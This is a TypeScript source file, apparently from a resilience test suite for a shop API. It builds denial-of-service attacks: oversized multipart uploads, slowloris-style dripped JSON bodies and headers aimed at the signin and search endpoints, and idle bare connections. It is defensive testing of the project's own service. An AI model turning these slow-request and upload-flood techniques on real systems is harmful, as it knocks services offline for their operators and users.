import type { ShopFacts } from '../shop/shop-facts'
import type { Attack } from './attack'
import { inTurns } from './in-turns'
import { withBody, writeHead } from './write-request'

/** The contract's largest JSON body, and how much of it waits for the end that is dripped in. */
const JSON_BYTES = 1_048_576
const DRIPPED_BYTES = 4_096
const PHOTO_BYTES = 3 * 1024 * 1024
const BOUNDARY = 'attack'

/** What makes the shop keep bytes or connections. */
export function bodyAttacks({ attackers }: ShopFacts): Attack[] {
  const [uploader] = attackers
  if (!uploader) throw new Error('The attacker has no account.')
  const path = `/api/product/create/${uploader.userId}`
  const type = { 'Content-Type': `multipart/form-data; boundary=${BOUNDARY}` }
  const form = writeForm()
  const authorization = { Authorization: `Bearer ${uploader.token}` }
  const uploads = inTurns([
    withBody('POST', path, form, type),
    withBody('POST', path, form, { ...type, ...authorization }),
  ])
  const body = Buffer.from(`{"email":"${'x'.repeat(JSON_BYTES - DRIPPED_BYTES)}`)
  const head = (to: string) =>
    writeHead('POST', to, {
      'Content-Type': 'application/json',
      'Content-Length': String(JSON_BYTES),
    })
  return [
    { name: 'uploads', manner: { kind: 'ask', next: uploads } },
    dripped('dripped bodies', head('/api/auth/signin'), body),
    dripped('dripped filters', head('/api/product/by/search'), body),
    dripped('dripped heads', 'GET /api/category/list HTTP/1.1\r\nHost: shop.example\r\nX-Long: '),
    {
      name: 'bare connections',
      manner: { kind: 'drip', beginning: Buffer.alloc(0), rest: Buffer.alloc(0) },
    },
  ]
}

function dripped(name: string, head: string, body = Buffer.alloc(0)): Attack {
  const beginning = Buffer.concat([Buffer.from(head), body])
  return { name, manner: { kind: 'drip', beginning, rest: Buffer.alloc(DRIPPED_BYTES, 'x') } }
}

function writeForm(): Buffer {
  return Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`,
    ),
    Buffer.alloc(PHOTO_BYTES, 'x'),
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])
}
